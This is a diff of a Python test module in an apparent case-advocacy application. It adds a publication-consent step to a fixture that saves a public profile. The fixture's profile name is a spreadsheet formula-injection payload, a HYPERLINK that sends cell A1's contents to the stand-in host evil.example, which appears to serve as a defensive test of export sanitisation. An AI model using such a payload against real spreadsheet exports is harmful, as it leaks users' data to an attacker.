@@ -21,6 +21,7 @@ from habeas.advocacy import render, services
 from habeas.advocacy.models import PublicUpdate
 from habeas.cases import services as cases
 from habeas.cases.models import Case
+from tests.support.advocacy import consent_to_publication
 from tests.support.documents import docx_text
 
 # Cuneiform: no font Habeas draws with has it (Chinese has one since the Debian
@@ -231,6 +232,7 @@ def test_what_fpdf2_says_about_missing_glyphs_never_reaches_a_log(every_log_reco
 
 @pytest.fixture
 def published(alices_case, alice):
+    consent_to_publication(alices_case, by=alice)
     return services.public_profile_save(
         case=alices_case,
         name='=HYPERLINK("http://evil.example/?"&A1,"x")',
